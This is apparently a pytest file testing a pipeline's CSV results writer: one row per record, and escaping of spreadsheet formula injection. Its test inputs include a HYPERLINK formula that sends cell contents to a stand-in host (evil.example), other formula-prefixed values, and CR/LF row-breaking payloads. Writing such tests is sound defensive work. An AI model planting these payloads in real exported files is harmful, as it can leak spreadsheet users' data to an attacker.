"""results.csv (sparkops.pipeline.table): one row per record, the line the journal counts, and
no cell a spreadsheet would run as a formula (issue 37 item 7)."""

from __future__ import annotations

import csv
import json
from pathlib import Path
from typing import Any

import pytest

from sparkops.pipeline import table
from sparkops.pipeline.spec import PipelineSpec, load_pipeline

PIPE = """\
name: t
model: m
steps:
  - name: screen
    user: "Note: {text}"
    parse: {choices: ["yes", "no"], default: "no"}
    next: {"yes": detail, "no": stop}
  - name: detail
    user: "Note: {text}"
    extract:
      fields:
        age: {type: integer, minimum: -200, maximum: 120}
        summary: {type: string, maxLength: 40}
    next: {ok: stop, unclear: stop}
"""


@pytest.fixture
def spec(tmp_path: Path) -> PipelineSpec:
    path = tmp_path / "p.yaml"
    path.write_text(PIPE)
    return load_pipeline(path)


def done(rid: Any, answer: str = "no", parsed: bool = True, **extra: Any) -> dict[str, Any]:
    step = {"step": "screen", "answer": answer, "parsed": parsed}
    return {"id": rid, "status": "done", "final": answer, "steps": [step], "error": None, **extra}


def job(tmp_path: Path, lines: list[dict[str, Any] | str]) -> Path:
    out = tmp_path / "job"
    out.mkdir()
    text = "".join((x if isinstance(x, str) else json.dumps(x)) + "\n" for x in lines)
    (out / "results.jsonl").write_text(text)
    return out


def rows(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as fh:
        return list(csv.DictReader(fh))


def test_a_repeated_results_line_is_one_row_the_one_the_journal_counts(tmp_path, spec):
    """A crash between the write and the sync, then a resume: the record's line twice. The
    journal counts the first (jobdir/lines.read_results); so do the table and its tally."""
    first = done("r1", answer="yes", parsed=False)
    again = {"id": "r1", "status": "error", "final": None, "steps": [], "error": "HTTP 500"}
    out = job(tmp_path, [first, done("r2"), again, done("r3"), json.dumps(first)])
    got = rows(table.write_table(out, spec))
    assert [r["id"] for r in got] == ["r1", "r2", "r3"]
    assert got[0]["status"] == "done" and got[0]["screen"] == "yes" and got[0]["error"] == ""
    assert table.unparsed(out / "results.jsonl") == {"screen": 1}
    line = table.unparsed_line(out)
    assert line is not None and "1 answer(s) could not be read" in line


def test_id_less_lines_are_one_row_each_and_damaged_lines_none(tmp_path, spec):
    """Records without an id are keyed by their input line, not merged into one row."""
    out = job(tmp_path, [done(None, line=4), "not json", done(None, line=7), done(None, line=4)])
    assert [r["status"] for r in rows(table.write_table(out, spec))] == ["done", "done"]


FORMULAS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\tlooks blank",
    "\rcarriage",
    "\0nul",
]


@pytest.mark.parametrize("rid", FORMULAS)
def test_a_formula_like_id_is_written_as_text(tmp_path, spec, rid):
    out = job(tmp_path, [done(rid)])
    (got,) = rows(table.write_table(out, spec))
    assert got["id"] == "'" + rid


def test_every_text_cell_is_escaped_and_numbers_stay_numbers(tmp_path, spec):
    fields = {"age": -5, "summary": "=1+1"}
    detail = {"step": "detail", "answer": "-ok", "parsed": True, "fields": fields}
    line = {
        "id": "r1",
        "status": "error",
        "final": "@final",
        "steps": [{"step": "screen", "answer": "+yes", "parsed": True}, detail],
        "error": "-HTTP 500: bad",
    }
    out = job(tmp_path, [line, done("plain-id"), done("a=b")])
    got = rows(table.write_table(out, spec))
    assert got[0]["final"] == "'@final" and got[0]["error"] == "'-HTTP 500: bad"
    assert got[0]["screen"] == "'+yes" and got[0]["detail"] == "'-ok"
    assert got[0]["detail.summary"] == "'=1+1"
    assert got[0]["detail.age"] == "-5"  # a number, not text: left as it is
    assert got[0]["screen.parsed"] == "true"
    assert [r["id"] for r in got[1:]] == ["plain-id", "a=b"]  # only the first character counts
    text = [cell for r in got for key, cell in r.items() if key != "detail.age"]
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in text)


def test_a_line_break_inside_a_cell_cannot_start_a_row_of_its_own(tmp_path, spec):
    """OWASP: a separator inside a value may start a new cell (or row) with a formula. A CR
    was written bare (rows ended in LF only), and a spreadsheet broke the row there."""
    out = job(tmp_path, [done("a\r=HYPERLINK(1)"), done("b\n@SUM(1)"), done("c,-1")])
    path = table.write_table(out, spec)
    assert [r["id"] for r in rows(path)] == ["a\r=HYPERLINK(1)", "b\n@SUM(1)", "c,-1"]
    raw = path.read_bytes()
    assert raw.count(b"\r\n") == 4  # the header and three rows, each ended by CRLF
    assert b'"a\r=HYPERLINK(1)"' in raw and b'"b\n@SUM(1)"' in raw and b'"c,-1"' in raw
